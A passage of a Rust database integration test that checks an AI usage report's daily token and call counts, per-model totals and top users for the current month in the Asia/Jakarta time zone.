                date_trunc('month', created_at at time zone 'Asia/Jakarta')
                  = date_trunc('month', now() at time zone 'Asia/Jakarta')
         from public.ai_usage",
    )
    .fetch_all(pool)
    .await
    .unwrap();
    let days: Vec<String> = sqlx::query_scalar(
        "select to_char((now() at time zone 'Asia/Jakarta')::date - i, 'YYYY-MM-DD')
         from generate_series(29, 0, -1) i",
    )
    .fetch_all(pool)
    .await
    .unwrap();
    assert_eq!(report.days.len(), 30);
    let mut per_day: HashMap<&str, (i64, i64)> = HashMap::new();
    let mut per_model: HashMap<(&str, &str), (i64, i64)> = HashMap::new();
    let mut this_month: HashMap<Uuid, i64> = HashMap::new();
    for (user, provider, model, tokens, day, in_month) in &calls {
        if days.contains(day) {
            let d = per_day.entry(day.as_str()).or_default();
            d.0 += tokens;
            d.1 += 1;
            let m = per_model
                .entry((provider.as_str(), model.as_str()))
                .or_default();
            m.0 += tokens;
            m.1 += 1;
        }
        if *in_month {
            *this_month.entry(*user).or_default() += tokens;
        }
    }
    for (shown, day) in report.days.iter().zip(&days) {
        assert_eq!(&shown.day, day);
        let (tokens, calls) = per_day.get(day.as_str()).copied().unwrap_or_default();
        assert_eq!((shown.tokens, shown.calls), (tokens, calls), "{day}");
    }

    let mut models: Vec<(String, String, i64, i64)> = per_model
        .iter()
        .map(|((p, m), (t, c))| (p.to_string(), m.to_string(), *t, *c))
        .collect();
    models.sort_by(|a, b| b.2.cmp(&a.2).then(a.0.cmp(&b.0)).then(a.1.cmp(&b.1)));
    let shown: Vec<(String, String, i64, i64)> = report
        .models
        .iter()
        .map(|m| (m.provider.clone(), m.model.clone(), m.tokens, m.calls))
        .collect();
    assert_eq!(shown, models);
    assert_eq!(
        report
            .models
            .iter()
            .find(|m| m.model == "edge")
            .map(|m| m.calls),
        Some(1),
        "the window's first microsecond counts, the one before it does not"
    );

    let mut top: Vec<(Uuid, i64)> = this_month.into_iter().collect();
    top.sort_by(|a, b| b.1.cmp(&a.1).then(a.0.cmp(&b.0)));
    top.truncate(10);
    assert_eq!(report.top_users.len(), top.len().min(10));
    for (shown, (user, tokens)) in report.top_users.iter().zip(&top) {
        assert_eq!(shown.user_id, user.to_string());
        assert_eq!(shown.tokens, *tokens);
        let (email, plan): (String, String) = sqlx::query_as(
            "select u.email, s.plan::text
             from auth.users u, public.ai_standing(u.id, array[0, 0, 0, 0]::bigint[], 'Asia/Jakarta') s
             where u.id = $1",
        )
        .bind(user)
        .fetch_one(pool)
        .await
        .unwrap();
        assert_eq!(shown.email, email);
        assert_eq!(shown.plan, plan.parse::<Plan>().unwrap(), "{email}");
        let n = users.iter().position(|u| u == user).unwrap();
        assert_eq!(shown.name.as_deref(), Some(format!("User {n}").as_str()));
    }
    let month_starts: String = sqlx::query_scalar(
        "select to_char(date_trunc('month', now() at time zone 'Asia/Jakarta'), 'YYYY-MM-DD')",
    )
    .fetch_one(pool)
    .await
    .unwrap();
    assert_eq!(report.month_starts, month_starts);
}
